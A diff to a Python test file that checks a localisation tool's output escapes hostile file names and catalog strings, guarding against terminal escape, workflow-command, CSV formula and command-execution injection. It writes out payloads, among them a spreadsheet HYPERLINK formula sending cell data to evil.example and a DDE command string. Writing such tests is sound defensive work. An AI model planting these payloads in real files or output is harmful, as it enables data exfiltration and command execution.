@@ -267,17 +267,18 @@ def test_coverage_csv_is_written_beside_any_format(outputs, tmp_path):
 
 # An article's name (a file name: git holds any byte but "/" and NUL) that, printed raw, starts a
 # workflow command of its own, hides a hyperlink, sets the clipboard (OSC 52), clears the screen,
-# and reverses the rest of the line.
+# and reverses the rest of the line; and a msgid a spreadsheet would run as a formula.
 HOSTILE = (
     "x\n::error title=pwned::owned\x1b]8;;https:evil.example\x1b\\link\x1b]8;;\x1b\\"
     "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b2J\u202egpj"
 )
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 ACTED_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
 
 
 @pytest.fixture(scope="module")
 def hostile_project(tmp_path_factory) -> Path:
-    """The guide's project with an article under ``HOSTILE``'s name (a finding in it)."""
+    """The guide's project with an article under ``HOSTILE``'s name (a finding in it) and a msgid ``FORMULA``."""
     project = tmp_path_factory.mktemp("hostile") / "project"
     project.mkdir()
     for name in ("docs", "locales", "mkdocs.yml"):
@@ -292,6 +293,7 @@ def hostile_project(tmp_path_factory) -> Path:
     catalog = polib.pofile(str(path), wrapwidth=0)
     entries = [e for e in catalog if e.msgid and not e.obsolete]
     entries[3].msgstr = ""  # the catalog is incomplete: the text report lists it by name
+    entries[4].msgid = FORMULA  # a msgid the English page lacks: a finding that quotes it in every format
     catalog.save(str(path))
     return project
 
@@ -321,3 +323,27 @@ def test_an_error_naming_a_hostile_file_starts_no_workflow_command(tmp_path):
     assert not any(line.lstrip().startswith("::error title=pwned") for line in lines), lines
     assert not ACTED_ON.search(result.stderr)
     assert "x\\x0a::error title=pwned::owned" in result.stderr  # the file is still named, escaped
+
+
+def test_csv_cells_from_a_catalog_never_start_a_formula(hostile_project, tmp_path):
+    coverage = tmp_path / "coverage.csv"
+    result = docloc_check(hostile_project, "--format", "csv", "--coverage-csv", str(coverage))
+    assert result.returncode == 1, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    quoting = [row for row in rows if FORMULA in row["msgid"]]
+    assert quoting and all(row["msgid"] == "'" + FORMULA for row in quoting)
+    hostile = "=1+cmd|' -C calc'!A0"  # no slash: a file name
+    (hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po").rename(
+        hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po"
+    )
+    try:
+        docloc_check(hostile_project, "--coverage-csv", str(coverage))
+    finally:
+        (hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po").rename(
+            hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po"
+        )
+    names = [row["name"] for row in csv.DictReader(coverage.open(encoding="utf-8"))]
+    assert "'" + hostile + ".md" in names
+    for row in [*rows, *csv.DictReader(coverage.open(encoding="utf-8"))]:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
